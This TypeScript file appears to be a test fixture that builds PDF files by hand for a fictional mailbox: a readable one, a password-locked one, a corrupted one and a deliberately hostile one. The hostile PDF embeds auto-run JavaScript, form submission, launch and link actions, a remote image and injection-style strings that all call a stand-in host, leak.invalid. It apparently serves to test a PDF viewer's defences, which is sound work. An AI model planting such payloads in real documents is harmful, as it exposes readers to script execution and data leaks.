// PDF files written by hand, byte for byte: one to read, one locked, one cut off, and one that tries everything.
const latin = (text: string): Uint8Array => Uint8Array.from(text, (sign) => sign.charCodeAt(0) & 0xff);

/** Objects from 1 on; the first is the catalogue. */
function pdfOf(objects: readonly string[], trailer = ''): string {
  let file = '%PDF-1.7\n';
  const offsets = objects.map((body, index) => {
    const at = file.length;
    file += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return String(at).padStart(10, '0');
  });
  const table = offsets.map((at) => `${at} 00000 n \n`).join('');
  const count = objects.length + 1;
  return `${file}xref\n0 ${count}\n0000000000 65535 f \n${table}trailer\n<< /Size ${count} /Root 1 0 R ${trailer}>>\nstartxref\n${file.length}\n%%EOF\n`;
}
const stream = (body: string, entries = ''): string =>
  `<< ${entries}/Length ${body.length} >>\nstream\n${body}\nendstream`;
const lines = (words: readonly string[]): string =>
  `BT /F1 18 Tf 60 760 Td 24 TL ${words.map((line) => `(${line}) Tj T*`).join(' ')} ET`;

/** A scanned square, 8 by 8, black: eight lines like the one above them, which is white, in CCITT group 4; then inverted. */
const scan = stream(
  '\xff\x00\x10\x01',
  [
    '/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 1 /ColorSpace /DeviceGray /Decode [1 0]',
    '/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 8 /Rows 8 >> ',
  ].join(' '),
);
const helvetica = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';

/** So many pages, the second one wide, the third one turned, the fourth with fonts and letters it does not bring along; a
 *  scanned square on the first. */
export function readablePdf(pages: number): Uint8Array {
  const first = 8;
  const more: Readonly<Record<number, string>> = {
    0: 'q 120 0 0 120 60 500 cm /Scan Do Q',
    3: 'BT /F2 18 Tf 60 600 Td (abg) Tj /F3 18 Tf 0 -30 Td <65e5672c> Tj ET',
  };
  const kids = Array.from({ length: pages }, (_, i) => `${first + 2 * i} 0 R`).join(' ');
  return latin(
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
      helvetica,
      scan,
      '<< /Type /Font /Subtype /Type1 /BaseFont /Symbol >>',
      '<< /Type /Font /Subtype /Type0 /BaseFont /Ryumin-Light /Encoding /UniJIS-UTF16-H /DescendantFonts [7 0 R] >>',
      '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Ryumin-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 4 >> /FontDescriptor << /Type /FontDescriptor /FontName /Ryumin-Light /Flags 6 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /StemV 80 /CapHeight 700 >> >>',
      ...Array.from({ length: pages }, (_, i) => {
        const box = i === 1 ? '0 0 842 595' : '0 0 595 842';
        const text = lines([
          `Programme, page ${i + 1}`,
          'D\xe9part \xe0 8 h 15 devant l\x92\xe9cole',
          'Retour \xe0 17 h',
        ]);
        return [
          `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] ${i === 2 ? '/Rotate 90 ' : ''}/Contents ${first + 2 * i + 1} 0 R /Resources << /Font << /F1 3 0 R /F2 5 0 R /F3 6 0 R >> /XObject << /Scan 4 0 R >> >> >>`,
          stream(`${text} ${more[i] ?? ''}`),
        ];
      }).flat(),
    ]),
  );
}

/** Asks for a password before it shows anything. */
export const lockedPdf = (): Uint8Array =>
  latin(
    pdfOf(
      [
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [] /Count 0 >>',
        `<< /Filter /Standard /V 1 /R 2 /O <${'5a'.repeat(32)}> /U <${'a5'.repeat(32)}> /P -4 >>`,
      ],
      `/Encrypt 3 0 R /ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>] `,
    ),
  );

/** Says that it is a PDF, and then nothing of the kind. */
export const damagedPdf = (): Uint8Array => latin(`%PDF-1.7\n${'\x00\xff garbage '.repeat(40)}`);

/** Runs a script when opened, when shown and when a key is pressed, links, launches, sends a form and looks elsewhere. */
export function hostilePdf(): Uint8Array {
  const leak = (what: string): string => `http://leak.invalid/${what}`;
  const script = (what: string): string =>
    `<< /S /JavaScript /JS (app.alert\\('${what}'\\); this.submitForm\\('${leak(what)}'\\); app.launchURL\\('${leak(what)}'\\);) >>`;
  const whole = '/Rect [0 0 595 842]';
  return latin(
    pdfOf([
      `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script('open')} /AA << /WC ${script('close')} >> /AcroForm << /Fields [7 0 R] /NeedAppearances true /XFA (${leak('xfa')}) >> /Names << /JavaScript << /Names [(a) ${script('names')}] >> >> >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O ${script('page')} >> /Annots [6 0 R 7 0 R 8 0 R] /Contents 5 0 R /Resources << /Font << /F1 4 0 R >> /XObject << /Far 9 0 R >> >> >>`,
      `<< /Type /Font /Subtype /Type1 /BaseFont /Evil#27#29#3Burl#28${leak('font').replaceAll('/', '#2F')}#29 /FontMatrix [1 0 0 1 0 (0\\); fetch\\('${leak('matrix')}')] >>`,
      stream(`${lines(['Kept text', '<img src=x onerror=alert\\(1\\)>'])} /Far Do`),
      `<< /Type /Annot /Subtype /Link ${whole} /Border [0 0 0] /A << /S /URI /URI (${leak('link')}) >> >>`,
      `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) ${whole} /A << /S /SubmitForm /F (${leak('form')}) >> /AA << /E ${script('enter')} /K ${script('key')} >> >>`,
      `<< /Type /Annot /Subtype /Screen ${whole} /A << /S /Launch /F (${leak('launch')}) >> >>`,
      `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${leak('image')}) >> /Length 0 >>\nstream\n\nendstream`,
    ]),
  );
}

/** What the made-up mailbox has under this name; the usual one where nothing is special. */
export function pdfNamed(name: string): Uint8Array {
  if (name.startsWith('Bulletin')) return lockedPdf();
  if (name.startsWith('Plan d')) return damagedPdf();
  if (name.startsWith('Récépissé')) return hostilePdf();
  return readablePdf(name.startsWith('Annuaire') ? 2_500 : 12);
}
